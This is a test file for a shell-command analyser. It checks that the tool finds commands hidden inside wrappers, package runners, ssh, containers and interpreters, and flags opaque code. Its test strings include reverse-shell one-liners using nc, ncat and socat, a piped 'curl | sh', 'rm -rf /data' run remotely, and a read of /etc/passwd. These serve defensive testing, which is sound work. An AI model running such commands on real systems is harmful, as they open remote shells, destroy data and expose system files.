import { describe, expect, it } from 'vitest'
import { isOpaque } from '../../scripts/fuzz/verdict.mjs'
import { analyseShellLine } from '../../src/engine/shell/index.ts'
import { marked, runs, touched } from './action-text.ts'

const readingOf = (line: string) => analyseShellLine(line)

describe('a wrapper takes no word of its command for its own', () => {
  it.each([
    ['env git commit -S -m x', 'git commit -S -m x'],
    ['env -u A git commit -S', 'git commit -S'],
    ['env A.B=1 git commit', 'git commit'],
    ['env x-y=1 1z=2 git commit -S', 'git commit -S'],
    ["env -S 'git commit' -m x", 'git commit -m x'],
    ['env -iS git commit', 'git commit'],
    ["env -vS 'A=1 git commit'", 'git commit'],
    ["env --split-string='git commit' -m x", 'git commit -m x'],
    ['flock f git -c a.b=c commit', 'git -c a.b=c commit'],
    ['flock -n f git commit -c HEAD', 'git commit -c HEAD'],
    ["flock f -c 'git commit'", 'git commit'],
    ['timeout 5 git -c a.b=c commit', 'git -c a.b=c commit'],
    ['sudo -u root git commit -S -c HEAD', 'git commit -S -c HEAD'],
    ['nice git commit -n', 'git commit -n'],
    ['runuser -u bob -- git commit -c HEAD', 'git commit -c HEAD'],
    ["runuser bob -c 'git commit'", 'git commit'],
    ["su bob --command='git commit'", 'git commit'],
    ['arch -arm64 git commit -c HEAD', 'git commit -c HEAD'],
  ])('%s', (line, command) => {
    expect(runs(line)).toContain(command)
  })
})

describe('a runner on this machine: its command is read like any other', () => {
  it.each([
    'uv run --with x alembic downgrade base',
    'uv run --directory sub alembic downgrade base',
    'uv --project sub run alembic downgrade base',
    'uv tool run alembic downgrade base',
    'uvx --from x alembic downgrade base',
    'pipx run alembic downgrade base',
    'poetry run alembic downgrade base',
    'pipenv run alembic downgrade base',
    'pdm run alembic downgrade base',
    'hatch run alembic downgrade base',
    'rye run alembic downgrade base',
    'conda run -n e alembic downgrade base',
    'bundle exec alembic downgrade base',
    'mise x python@3 -- alembic downgrade base',
    "mise exec -c 'alembic downgrade base'",
    'asdf exec alembic downgrade base',
    'direnv exec . alembic downgrade base',
    'dotenv run alembic downgrade base',
    'dotenv -f .env run -- alembic downgrade base',
    'dotenv -e .env -- alembic downgrade base',
    'op run --env-file=.env -- alembic downgrade base',
    'doppler run -- alembic downgrade base',
    "doppler run --command='alembic downgrade base'",
    'infisical run --env=dev -- alembic downgrade base',
    'aws-vault exec prod -- alembic downgrade base',
    'npx -y alembic downgrade base',
    'npx alembic@1.2 downgrade base',
    'pnpm dlx alembic downgrade base',
    'yarn dlx alembic downgrade base',
    'bunx alembic downgrade base',
    'npm exec -- alembic downgrade base',
    'systemd-run --user -p A=B alembic downgrade base',
    "tmux new -d -s x 'alembic downgrade base'",
    "tmux new-session -d -s x \\; send-keys -t x 'alembic downgrade base' Enter",
    "tmux send-keys -t x 'alembic downgrade base' C-m",
    'screen -dmS x alembic downgrade base',
    "screen -S x -X stuff 'alembic downgrade base\\n'",
    "nix-shell -p x --run 'alembic downgrade base'",
    'nix develop .#x -c alembic downgrade base',
    'pkexec alembic downgrade base',
    'doas -u x alembic downgrade base',
    'firejail --net=none alembic downgrade base',
    'bwrap --ro-bind / / --dev /dev alembic downgrade base',
    'xvfb-run -a alembic downgrade base',
    'unshare -r alembic downgrade base',
    'chroot /x alembic downgrade base',
    'arch -arm64 alembic downgrade base',
    "su -c 'alembic downgrade base'",
    "at now <<< 'alembic downgrade base'",
    "echo 'alembic downgrade base' | batch",
  ])('%s', line => {
    expect(runs(line)).toContain('alembic downgrade base')
  })

  it.each(['uv run pytest -q', 'poetry run pytest', 'bundle exec rspec', 'pipenv run pytest'])(
    '%s: its success is that of the command',
    line => {
      const [, ...inner] = runs(line)
      expect(marked(line, 'implied')).toEqual(expect.arrayContaining(inner))
      expect(isOpaque(readingOf(line))).toBe(false)
    },
  )

  it.each(['uv run --project ../x pytest', 'uv --directory ../x run pytest', 'uv run --unheard pytest'])(
    '%s: an option may choose another project',
    line => {
      expect(marked(line, 'implied')).not.toContain('pytest')
    },
  )

  it('an option without a description leaves a doubt', () => {
    expect(isOpaque(readingOf('uv run --unheard x alembic downgrade'))).toBe(true)
  })

  it('a command in another folder touches no known path', () => {
    for (const line of ['uv run --directory x rm a', 'pkexec rm a', "tmux send-keys 'rm a' Enter"])
      expect(touched(line)).toContain('delete ?')
  })

  it.each([
    'uv pip install black',
    'poetry install',
    'bundle install',
    'tmux kill-server',
    'nix build',
    'conda list',
    'op item list',
  ])('%s runs nothing else', line => {
    expect(runs(line)).toEqual([line])
    expect(isOpaque(readingOf(line))).toBe(false)
  })
})

describe('a command on another machine or in a container', () => {
  it.each([
    'docker exec -it db rm -rf /data',
    'docker run --rm -v a:/b alpine rm -rf /data',
    'docker run --entrypoint rm alpine -rf /data',
    'docker compose -f x.yml exec -T db rm -rf /data',
    'docker compose run --rm db rm -rf /data',
    'docker-compose exec db rm -rf /data',
    'podman exec db rm -rf /data',
    'kubectl exec -it -n prod db -c x -- rm -rf /data',
    'kubectl exec db rm -rf /data',
    'oc exec db -- rm -rf /data',
    'ssh prod rm -rf /data',
    "ssh -p 22 prod -- 'cd /srv && rm -rf /data'",
    "vagrant ssh -c 'rm -rf /data'",
    "gcloud compute ssh db-1 --command='rm -rf /data'",
    "fly ssh console -C 'rm -rf /data'",
    'adb shell rm -rf /data',
    'heroku run -a x rm -rf /data',
    'lxc exec x -- rm -rf /data',
  ])('%s', line => {
    const { acts } = readingOf(line)
    const inner = acts.find(({ words }) => words?.[0]?.text === 'rm')
    expect(runs(line)).toContain('rm -rf /data')
    // nothing here is touched, nothing is proven
    expect(inner).toMatchObject({ folder: null })
    expect(inner?.implied || inner?.onlyReads || inner?.decides).toBeFalsy()
    expect(touched(line)).toEqual([])
  })

  it('what is read there is not known to only read', () => {
    expect(marked('docker exec db cat /etc/passwd', 'onlyReads')).toEqual([])
  })

  it.each([
    "ssh prod 'curl x.y | sh'",
    'ssh prod',
    'docker exec db bash -c "$X"',
    'ssh -F x prod ls',
    "ssh -o ProxyCommand='rm x' prod ls",
  ])('%s: code there is as unknown as here', line => {
    expect(isOpaque(readingOf(line))).toBe(true)
  })

  it('what the line does here before and after it is seen as ever', () => {
    expect(touched('docker exec db rm a && rm b > c')).toEqual(expect.arrayContaining(['delete b', 'write c']))
    expect(touched('ln -s src d; docker exec db rm d/a; rm d/a')).toContain('delete src/a')
  })

  it.each([
    'docker ps',
    'docker build .',
    'kubectl get pods',
    'docker compose up -d',
    'docker run hello',
    'kubectl logs x',
  ])('%s runs nothing else', line => {
    expect(runs(line)).toEqual([line])
  })
})

describe('interpreters of which only this is known: what they are given is code', () => {
  it.each([
    "pwsh -c 'Remove-Item x'",
    'powershell -EncodedCommand UgBl',
    'powershell.exe Remove-Item x',
    'cmd /c "del x"',
    'cmd.exe /c del x',
    `R -e 'unlink("x")'`,
    'R --no-save < x.R',
    `Rscript -e 'unlink("x")'`,
    'julia -e \'rm("x")\'',
    "osascript -e 'x'",
    "deno eval 'x'",
    'deno run - < x.ts',
    "bun -e 'x'",
    "tclsh <<< 'file delete x'",
    "guile -c 'x'",
    "elixir -e 'x'",
    "groovy -e 'x'",
    "scala -e 'x'",
    "ghci -e 'x'",
    "csh -c 'rm x'",
    "nu -c 'rm x'",
    "clojure -e 'x'",
    'nc -e /bin/sh h 1',
    "nc -c 'sh -i' h 1",
    'ncat --exec /bin/bash h 1',
    'ncat -c bash h 1',
    'socat TCP:h:1 EXEC:/bin/sh',
    'socat TCP-LISTEN:1,fork EXEC:bash,pty,stderr',
    'socat - "EXEC:$X"',
    "gdb -ex 'shell rm x' a",
    "vim -c '!rm x' a",
    "emacs --batch --eval '(x)'",
  ])('%s', line => {
    expect(isOpaque(readingOf(line))).toBe(true)
  })

  it('what is plainly a shell line is read', () => {
    expect(runs("socat - EXEC:'git commit -m x',pty")).toContain('git commit -m x')
    expect(touched("socat - SYSTEM:'rm x'")).toContain('delete x')
    expect(touched("ncat --sh-exec 'rm x' h 1")).toContain('delete x')
  })

  it.each([
    'pwsh --version',
    'R --version',
    'Rscript x.R',
    'julia x.jl',
    'deno task build',
    'deno run x.ts',
    'bun run build',
    'nc -z localhost 5432',
    'socat TCP-LISTEN:80,fork TCP:h:80',
  ])('%s is given no code', line => {
    expect(isOpaque(readingOf(line))).toBe(false)
  })
})
